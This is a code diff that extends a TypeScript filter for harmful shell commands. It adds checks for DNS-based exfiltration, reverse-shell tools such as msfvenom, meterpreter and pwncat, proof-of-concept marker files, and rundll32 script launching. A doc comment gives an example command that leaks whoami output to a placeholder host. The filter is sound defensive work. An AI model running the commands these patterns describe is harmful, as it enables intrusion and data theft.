@@ -11,6 +11,7 @@ export function isHarmful(text: string, lower: string): boolean {
     opensShell(lower) ||
     escapes(lower) ||
     runsFetched(lower) ||
+    asksAway(lower) ||
     (lower.includes('rm') &&
       /\brm\s{1,4}(?:-\S{1,12}\s{1,4}){1,3}(?:--no-preserve-root\s{1,4})?\/(?:\*|\s*$|\s*[;&|"'`)])/.test(lower)) ||
     (lower.includes('){') || lower.includes(') {') ? isForkBomb(text) : false) ||
@@ -41,6 +42,11 @@ const SECRETS = [
   METADATA,
   'aws_secret_access_key',
   'ntds.dit',
+  '/tmp/pwn',
+  '/tmp/hack',
+  '/tmp/rce',
+  '/tmp/poc',
+  '/tmp/success',
 ];
 
 /** Names a file that holds credentials or what an attacker shows first, in a command that could read it. */
@@ -54,6 +60,9 @@ export function doesHarmInScripts(lower: string): boolean {
   for (const secret of SECRETS) if (secret !== METADATA && lower.includes(secret)) return true;
   return opensShell(lower) || writesScript(lower) || escapes(lower);
 }
+
+/** Of programs that have no other use. */
+const TOOLS = ['msfvenom -', 'msfconsole -', 'tcp-listen:', 'zsh/net/tcp', 'meterpreter', '/shell_reverse_tcp'];
 
 function opensShell(lower: string): boolean {
   if (lower.includes('/dev/tcp/') || lower.includes('/dev/udp/') || lower.includes('/inet/tcp/')) return true;
@@ -79,6 +88,8 @@ function opensShell(lower: string): boolean {
   if (lower.includes('s_client') && /\bsh\s{1,4}-i\b|\|\s{0,4}(?:\/bin\/)?(?:ba)?sh\b/.test(lower)) return true;
   if (lower.includes('socat') && /exec:|system:/.test(lower)) return true;
   if (lower.includes('xterm') && /-display\s/.test(lower)) return true;
+  if (TOOLS.some((tool) => lower.includes(tool))) return true;
+  if (/\b(?:pwncat|rcat|rlwrap)\s/.test(lower)) return /\s-\w{0,5}[lecs]\w{0,4}\b|\d{1,3}(?:\.\d{1,3}){3}/.test(lower);
   if (lower.includes('tcpclient') || lower.includes('fsockopen(')) return true;
   return lower.includes('telnet') && /\|\s{0,4}(?:\/bin\/)?(?:ba)?sh\b/.test(lower);
 }
@@ -92,7 +103,7 @@ function escapes(lower: string): boolean {
 const ESCAPES =
   /checkpoint-action=exec|-exec\s{1,4}(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh(?=\s{0,4}(?:-[pi]\s{0,4})?(?:\\?[;+]|["']|$))|['"]:?!(?:\/(?:usr\/)?bin\/)?(?:ba|z|da)?sh\b|['"]\.shell\s/;
 const RUNNERS =
-  /^\s{0,4}(?:sudo\s{1,4})?(?:env|nice|stdbuf|setarch|timeout|time|nohup|ionice|flock|watch|strace|xargs|unshare|script)\s[^;|&]{0,40}\/bin\/(?:ba|z|da)?sh(?:\s{1,4}-[pi])?\s*$/;
+  /^\s{0,4}(?:sudo\s{1,4})?(?:\/usr\/bin\/)?(?:env|nice|stdbuf|setarch|timeout|time|nohup|ionice|flock|watch|strace|xargs|unshare|script)\s[^;|&]{0,40}\/bin\/(?:ba|z|da)?sh(?:\s{1,4}-[pi])?(?:\s{1,4}\/dev\/null)?\s*$/;
 
 /** A web shell: server-side code sent into a file. */
 function writesScript(lower: string): boolean {
@@ -135,6 +146,14 @@ function runsFetched(lower: string): boolean {
   if (/\s-o\s{0,4}["']?\/(?:tmp|var\/tmp|dev\/shm|var\/www)\//.test(lower)) return true;
   // What it found, sent elsewhere.
   return /(?:\$\(|`)\s{0,4}(?:whoami|id|cat|env|hostname|ls|pwd|base64|printenv|uname\s{1,4}-a)\b/.test(lower);
+}
+
+/** What it found, asked for as the name of a host: `` nslookup `whoami`.x.example ``. */
+function asksAway(lower: string): boolean {
+  if (!/\b(?:nslookup|dig|host|ping|telnet|curl|wget)\b/.test(lower)) return false;
+  return /(?:\$\(|`)\s{0,4}(?:whoami|id|cat|uname|env|ls|pwd|base64)\b[^)`]{0,80}[)`]\.[\w-]{1,60}(?:\.|$|\s)/.test(
+    lower,
+  );
 }
 
 /** Functions that are looked at. */
@@ -183,6 +202,7 @@ function harmsWindows(lower: string): boolean {
   if (lower.includes('certutil') && /-urlcache|-decode/.test(lower)) return true;
   if (lower.includes('bitsadmin') && lower.includes('/transfer')) return true;
   if (lower.includes('mshta') && /mshta(?:\.exe)?\s{1,4}(?:"?https?:|javascript:|vbscript:)/.test(lower)) return true;
+  if (lower.includes('rundll32') && /rundll32(?:\.exe)?\s{1,4}(?:javascript:|\\\\)/.test(lower)) return true;
   if (lower.includes('regsvr32') && /\/i:https?:/.test(lower)) return true;
   if (lower.includes('vssadmin') && lower.includes('delete')) return true;
   if (lower.includes('wmic') && /process\s{1,4}call\s{1,4}create/.test(lower)) return true;
